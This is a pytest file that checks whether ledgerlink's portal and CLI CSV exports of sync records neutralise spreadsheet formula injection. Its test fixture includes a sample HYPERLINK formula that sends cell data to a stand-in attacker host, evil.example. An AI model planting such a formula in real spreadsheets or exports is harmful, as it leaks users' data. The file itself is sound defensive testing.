"""Every CSV ledgerlink writes for people (beyond the member export, tested with members):
the sync run records, from the portal and the CLI, start no spreadsheet formula."""

from __future__ import annotations

import csv
import io

import pytest
from typer.testing import CliRunner

from ledgerlink.cli import app
from ledgerlink.identity.principal import cli_principal
from ledgerlink.identity.roles import Role
from ledgerlink.settings import Settings
from ledgerlink.store.db import Database
from ledgerlink.store.sync_models import SyncRecord
from ledgerlink.sync import runs
from tests.support.members import add_connection
from tests.support.web import make_user, sign_in

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _run_with_formula_record(db: Database) -> int:
    """A failed sync record whose key, message and fix came back from a ledger as formulas."""
    connection_id = add_connection(db)
    with db.transaction() as session:
        run = runs.start(session, None, cli_principal(), connection_id, ["member_details"])
        run.status = "failed"
        session.add(
            SyncRecord(
                run_id=run.id,
                data_set="member_details",
                record_key='=HYPERLINK("http://evil.example/?"&A1,"open")',
                member_id=None,
                direction="to_ledger",
                action="update",
                status="failed",
                changes={"email": {"before": "=1+1", "after": "@SUM(A1)", "side": "ledger"}},
                message="-2+3",
                fix="+1",
            )
        )
        return int(run.id)


def _formula_cells(text: str) -> list[str]:
    return [
        cell
        for row in csv.reader(io.StringIO(text))
        for cell in row
        if cell.startswith(FORMULA_START)
    ]


def test_the_portal_sync_records_export_starts_no_formula(client, db: Database) -> None:  # type: ignore[no-untyped-def]
    run_id = _run_with_formula_record(db)
    sign_in(client, make_user(db, Role.VIEWER).email)
    exported = client.get(f"/sync/runs/{run_id}/records.csv")
    assert exported.status_code == 200
    assert _formula_cells(exported.text) == []
    [_, row] = list(csv.reader(io.StringIO(exported.text)))
    assert row[0] == str(run_id)  # a number stays a number
    assert row[1] == '\'=HYPERLINK("http://evil.example/?"&A1,"open")'
    assert row[-2:] == ["'-2+3", "'+1"]


@pytest.fixture
def cli(settings: Settings, monkeypatch: pytest.MonkeyPatch) -> CliRunner:
    monkeypatch.setenv("LEDGERLINK_DATABASE_URL", settings.resolved_database_url)
    monkeypatch.setenv("LEDGERLINK_VAR_DIR", str(settings.var_dir))
    monkeypatch.setenv("LEDGERLINK_VAULT_KEYS", settings.vault_keys.get_secret_value())  # type: ignore[union-attr]
    monkeypatch.setenv("LEDGERLINK_LOG_FORMAT", "console")
    return CliRunner()


def test_the_cli_sync_log_csv_starts_no_formula(cli: CliRunner, db: Database) -> None:
    run_id = _run_with_formula_record(db)
    result = cli.invoke(app, ["sync", "log", str(run_id), "--csv"])
    assert result.exit_code == 0, result.output
    assert _formula_cells(result.stdout) == []
    [_, row] = list(csv.reader(io.StringIO(result.stdout)))
    assert row[1].startswith("'=HYPERLINK(")
    assert row[-2:] == ["'-2+3", "'+1"]
